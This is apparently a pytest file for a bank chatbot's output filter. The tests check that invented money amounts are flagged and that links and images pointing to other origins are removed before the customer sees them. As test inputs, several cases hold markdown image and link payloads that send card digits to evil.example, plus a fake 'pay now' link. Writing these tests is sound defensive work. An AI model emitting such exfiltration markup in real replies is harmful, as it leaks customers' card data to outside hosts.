"""The final answer is checked before the customer sees it (G10)."""

from __future__ import annotations

from decimal import Decimal

import httpx2

from bankbot.output_checks import StreamGate, amounts_in, check_answer
from tests.agent.fakes import ScriptedModel, _chunk, call, text
from tools.models import ToolCallTrace


def test_it_reads_amounts_but_not_cards_dates_or_references():
    found = amounts_in("On 2026-10-03 card •••• 4242 paid 15 000.50 KZT (T-10452), "
                       "then 99.00 and 2500,50 ₸ in 2026; 3 items")
    assert found == {Decimal("15000.50"), Decimal("99.00"), Decimal("2500.50")}


def test_an_amount_from_a_tool_result_passes():
    checked = check_answer("Your total is 15000.00 KZT.", known_text=['{"total_kzt": "15000.00"}'])
    assert not checked.flagged


def test_an_amount_the_customer_wrote_passes():
    assert not check_answer("You asked about 7 500 KZT.", known_text=["dispute 7500"]).flagged


def test_an_invented_amount_is_flagged():
    checked = check_answer("You spent 99999.00 KZT.", known_text=['{"total_kzt": "15000.00"}'])
    assert checked.flagged
    assert "99999.00" in checked.problems[0]


def test_it_reads_the_known_text_only_as_far_as_it_must():
    read = []

    def known(*texts):
        for item in texts:
            read.append(item)
            yield item

    # Every amount found in the newest result: the older ones are not parsed.
    assert not check_answer("Total 15000.00 KZT, fee 99.00.", known_text=known(
        '{"total_kzt": "15000.00", "fee": "99.00"}', "older", "oldest")).flagged
    assert read == ['{"total_kzt": "15000.00", "fee": "99.00"}']
    # Found across two: read until both are.
    read.clear()
    assert not check_answer("15000.00 and 99.00", known_text=known(
        '{"a": "15000.00"}', '{"b": "99.00"}', "oldest")).flagged
    assert len(read) == 2
    # No amount in the answer: nothing to verify, nothing read.
    read.clear()
    assert not check_answer("Your card is blocked.", known_text=known("x")).flagged
    assert read == []
    # An amount found nowhere is still flagged after reading everything.
    read.clear()
    assert check_answer("12345.00", known_text=known("1.00", "2.00")).flagged
    assert read == ["1.00", "2.00"]


def test_links_and_images_to_other_origins_are_removed():
    checked = check_answer("See ![x](https://evil.example/?q=4242) and [here](//evil.example) "
                           "or http://evil.example <img src=x>", known_text=[])
    assert "evil.example" not in checked.text and "<img" not in checked.text
    assert checked.flagged


def test_the_agent_flags_an_invented_amount_to_the_customer_and_traces_it(alice_conversation, say):
    model = ScriptedModel(call("list_cards", {}), text("You owe 123456.00 KZT."))
    answer, events = say(alice_conversation, "show my cards", client=model.client())
    assert "do not match your records" in answer.flagged
    assert events[-1].kind == "final"
    trace = ToolCallTrace.objects.get(event="flagged")
    assert trace.result["original"] == "You owe 123456.00 KZT. "


def test_the_agent_strips_an_exfiltration_image(alice_conversation, say):
    model = ScriptedModel(text("Done ![a](https://evil.example/c?d=4242)"))
    answer, _ = say(alice_conversation, "hi", client=model.client())
    assert "evil.example" not in answer.text
    assert "another website" in answer.flagged


def stream(gate, *pieces):
    shown = [gate.feed(p) for p in pieces]
    return "".join(shown) + gate.finish(), shown


def test_the_stream_gate_never_splits_an_amount_and_passes_known_ones():
    text, shown = stream(StreamGate(['{"total_kzt": "15000.50"}']),
                         "Your total ", "is 15", " 000", ".50 KZT ", "this month.")
    assert text == "Your total is 15 000.50 KZT this month."
    assert "15" not in "".join(shown[:3])  # "15" waited for the rest of its number


def test_the_stream_gate_never_shows_an_invented_amount_or_a_link():
    text, _ = stream(StreamGate(['{"total_kzt": "15000.00"}']),
                     "You spent ", "99999.00 KZT ", "in total. ", "Anything else?")
    assert text == "You spent " and "99999" not in text
    text, _ = stream(StreamGate([]), "See ", "https://evil.example/steal?c=1 ", "now.")
    assert text == "See "


def test_the_stream_gate_reads_the_known_text_once_and_only_for_amounts():
    reads = []

    def known():
        reads.append("read")
        yield '{"a": "15000.00"}'

    gate = StreamGate(known())
    stream(gate, "Hello, ", "how can I help? ")
    assert reads == []
    stream(gate, "15000.00 KZT ", "and 15000.00 KZT again. ")
    assert reads == ["read"]


def test_the_agent_streams_only_checked_text(alice_conversation, say):
    answer, events = say(alice_conversation, "how much did I spend?",
                         client=ScriptedModel(text("You spent 99999.00 KZT. Pay now at "
                                                   "https://evil.example/pay today.")).client())
    streamed = "".join(e.text for e in events if e.kind == "token")
    assert "99999" not in streamed and "evil" not in streamed
    assert answer.flagged and "evil" not in answer.text


def test_the_stream_gate_checks_only_text_that_could_change_the_verdict(monkeypatch):
    from bankbot import output_checks

    checks = []
    real = output_checks._check
    monkeypatch.setattr(output_checks, "_check",
                        lambda text, known: checks.append(text) or real(text, known))
    gate = StreamGate(['{"a": "15000.00"}'])
    text, _ = stream(gate, *["plain " for _ in range(50)], "15000.00 KZT ", "more words ",
                     "here.")
    assert text.endswith("15000.00 KZT more words here.")
    assert len(checks) == 1  # the amount's piece only; the plain words were not re-checked


def exact_stream(*pieces, tool_call=None):
    """A streamed reply whose text arrives in exactly these pieces."""

    def reply(request):
        parts = [_chunk({"role": "assistant", "content": ""})]
        parts += [_chunk({"content": piece}) for piece in pieces]
        if tool_call:
            parts.append(_chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                                 "function": tool_call}]}))
        parts.append(_chunk({}, "tool_calls" if tool_call else "stop"))
        parts.append(b"data: [DONE]\n\n")
        return httpx2.Response(200, headers={"content-type": "text/event-stream"},
                               content=b"".join(parts))

    return reply


def test_the_stream_gate_checks_text_across_the_turns_model_calls(alice_conversation, say):
    # The browser joins both calls' text in one bubble: "15000" then ".99 KZT" must be
    # checked together, as 15000.99, which the records do not hold.
    model = ScriptedModel(
        exact_stream("You paid 15000", tool_call={"name": "list_cards", "arguments": "{}"}),
        exact_stream(".99 KZT in total."),
    )
    answer, events = say(alice_conversation, "I paid 15000.00 KZT somewhere",
                         client=model.client())
    streamed = "".join(e.text for e in events if e.kind == "token")
    assert "15000" not in streamed and ".99" not in streamed
    assert streamed == "You paid "
